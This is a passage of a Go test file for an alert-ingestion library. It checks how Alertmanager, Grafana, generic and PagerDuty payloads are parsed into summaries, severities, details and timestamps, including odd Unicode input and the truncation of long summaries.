		{`{"alertname":"A"}`, `{"summary":"  ","description":"\n  first line \r\nsecond"}`, "first line"},
		{`{"alertname":"A"}`, `{"description":" \n\t"}`, ""},
		{`{"alertname":"A"}`, `{"description":" first line \r\nsecond"}`, "first line"},
		{`{"alertname":"PostgresDown","instance":"db-1:9187"}`, `{}`, "PostgresDown on db-1:9187"},
		{`{"alertname":"Watchdog"}`, `null`, "Watchdog"},
		{`{"instance":"x"}`, `{}`, "alertmanager alert on x"},
		{`{}`, `{}`, "alertmanager alert"},
	} {
		body := `{"version":"4","status":"firing","alerts":[{"labels":` + tt.labels + `,"annotations":` + tt.annotations + `}]}`
		alerts, err := ingest.ParseAlertmanager([]byte(body))
		if err != nil {
			t.Fatal(err)
		}
		want := tt.want
		if want == "" {
			want = "A"
		}
		if got := alerts[0].Summary; got != want {
			t.Errorf("Summary of %s %s = %q, want %q", tt.labels, tt.annotations, got, want)
		}
	}
}

func TestSeverity(t *testing.T) {
	for _, tt := range []struct {
		parser, body string
		want         quench.Severity
	}{
		{"am", `{"version":"4","status":"firing","alerts":[{"labels":{}}]}`, quench.SeverityHigh},
		{"am", `{"version":"4","status":"firing","alerts":[{"labels":{"severity":"page"}}]}`, quench.SeverityCritical},
		{"am", `{"version":"4","status":"firing","alerts":[{"labels":{"severity":"info"}}]}`, quench.SeverityLow},
		{"am", `{"version":"4","status":"firing","alerts":[{"labels":{"severity":"whatever"}}]}`, quench.SeverityHigh},
		{"grafana", `{"version":"1","status":"firing","alerts":[{"labels":{"severity":"warning"}}]}`, quench.SeverityMedium},
		{"generic", `{"summary":"x"}`, quench.SeverityHigh},
		{"generic", `{"summary":"x","severity":"LOW"}`, quench.SeverityLow},
		{"pd", `{"routing_key":"R015QUENCHINGESTKEY0123456789ABC","event_action":"trigger","payload":{"summary":"s","source":"x","severity":"critical"}}`, quench.SeverityCritical},
		{"pd", `{"routing_key":"R015QUENCHINGESTKEY0123456789ABC","event_action":"trigger","payload":{"summary":"s","source":"x","severity":"error"}}`, quench.SeverityHigh},
		{"pd", `{"routing_key":"R015QUENCHINGESTKEY0123456789ABC","event_action":"trigger","payload":{"summary":"s","source":"x","severity":"warning"}}`, quench.SeverityMedium},
		{"pd", `{"routing_key":"R015QUENCHINGESTKEY0123456789ABC","event_action":"trigger","payload":{"summary":"s","source":"x","severity":"info"}}`, quench.SeverityLow},
	} {
		alerts, err := parse(tt.parser, []byte(tt.body))
		if err != nil {
			t.Fatalf("%s: %v", tt.body, err)
		}
		if got := alerts[0].Severity; got != tt.want {
			t.Errorf("%s %s: Severity = %s, want %s", tt.parser, tt.body, got, tt.want)
		}
	}
}

func TestPagerDutyDetails(t *testing.T) {
	for _, tt := range []struct {
		name, payload string
		annotations   map[string]string
		details       map[string]any
		startsAt      time.Time
	}{
		{"runbook in custom_details", `"custom_details":{"runbook":"db-down","runbook_url":42,"n":1}`,
			map[string]string{"runbook": "db-down"}, map[string]any{"custom_details": map[string]any{"runbook": "db-down", "runbook_url": 42.0, "n": 1.0}}, time.Time{}},
		{"odd timestamp kept in details", `"timestamp":"last tuesday"`, map[string]string{}, map[string]any{"timestamp": "last tuesday"}, time.Time{}},
		{"RFC 3339 timestamp", `"timestamp":"2024-02-03T04:05:06+01:00"`, map[string]string{}, nil, mustTime("2024-02-03T03:05:06Z")},
		{"custom_details escapes made safe", `"custom_details":{"a\u0000":"\ud800","b":[1e400,"\u00e9"]}`, map[string]string{},
			map[string]any{"custom_details": map[string]any{"a\uFFFD": "\uFFFD", "b": []any{"1e400", "é"}}}, time.Time{}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			body := `{"routing_key":"R015QUENCHINGESTKEY0123456789ABC","event_action":"trigger","payload":{"summary":"s","source":"x","severity":"info",` + tt.payload + `}}`
			ev, err := ingest.ParsePagerDuty([]byte(body))
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(ev.Alert.Annotations, tt.annotations) {
				t.Errorf("Annotations = %v, want %v", ev.Alert.Annotations, tt.annotations)
			}
			var d map[string]any
			if ev.Alert.Details != nil {
				dec := json.NewDecoder(strings.NewReader(string(ev.Alert.Details)))
				dec.UseNumber()
				if err := dec.Decode(&d); err != nil {
					t.Fatal(err)
				}
			}
			if !reflect.DeepEqual(normalise(d), normalise(tt.details)) {
				t.Errorf("Details = %s, want %v", ev.Alert.Details, tt.details)
			}
			if !ev.Alert.StartsAt.Equal(tt.startsAt) {
				t.Errorf("StartsAt = %v, want %v", ev.Alert.StartsAt, tt.startsAt)
			}
			checkAlert(t, ev.Alert)
		})
	}
}

// normalise turns json.Number and float64 alike into strings so expected
// values can be written either way.
func normalise(v any) any {
	switch v := v.(type) {
	case map[string]any:
		m := map[string]any{}
		for k, e := range v {
			m[k] = normalise(e)
		}
		return m
	case []any:
		s := make([]any, len(v))
		for i, e := range v {
			s[i] = normalise(e)
		}
		return s
	case json.Number:
		return v.String()
	case float64:
		b, _ := json.Marshal(v)
		return string(b)
	}
	return v
}

func TestSummaryCut(t *testing.T) {
	for _, n := range []int{1024, 1025, 5000} {
		for _, unit := range []string{"x", "é", "😀"} {
			s := strings.Repeat(unit, n)
			body, _ := json.Marshal(map[string]any{"routing_key": "R015QUENCHINGESTKEY0123456789ABC",
				"event_action": "trigger", "payload": map[string]string{"summary": s, "source": "x", "severity": "info"}})
			ev, err := ingest.ParsePagerDuty(body)
			if err != nil {
				t.Fatal(err)
			}
			got := ev.Alert.Summary
			if len(s) <= quench.MaxSummaryBytes {
				if got != s {
					t.Errorf("%d × %q: summary changed", n, unit)
				}
				continue
			}
			if len(got) > quench.MaxSummaryBytes || len(got) < quench.MaxSummaryBytes-6 || !strings.HasSuffix(got, "…") ||
				!strings.HasPrefix(s, strings.TrimSuffix(got, "…")) {
				t.Errorf("%d × %q: cut to %d bytes %q…", n, unit, len(got), got[:20])
			}
		}
	}
}
